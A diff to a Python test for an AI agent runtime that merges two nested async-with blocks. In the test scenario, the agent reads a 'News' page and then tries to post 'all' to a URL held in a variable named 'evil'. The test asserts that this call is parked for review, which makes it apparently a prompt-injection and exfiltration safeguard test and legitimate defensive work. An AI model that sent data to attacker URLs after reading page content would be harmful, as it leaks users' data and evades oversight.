@@ -281,12 +281,12 @@ def test_a_person_sees_the_foreign_text_beside_the_value(in_folder: Any, capsys:
     agent = Agent(name="x", tools=("read_page", "post"), default="read_page", semantic=False)
 
     async def act() -> tuple[str, Outcome]:
-        async with Runtime.open(store, policy=policy, tools=[read_page, *make_desk()]) as runtime:
-            async with Answers(runtime).turn("What is new?", agent=agent) as turn:
-                await turn.call("read_page", {"title": "News"})
-                parked = await turn.call("post", {"url": evil, "text": "all"})
-                await turn.finish("Nothing.")
-                return turn.id, parked
+        opened = Runtime.open(store, policy=policy, tools=[read_page, *make_desk()])
+        async with opened as runtime, Answers(runtime).turn("What is new?", agent=agent) as turn:
+            await turn.call("read_page", {"title": "News"})
+            parked = await turn.call("post", {"url": evil, "text": "all"})
+            await turn.finish("Nothing.")
+        return turn.id, parked
 
     turn, parked = asyncio.run(act())
     assert parked.ticket is not None
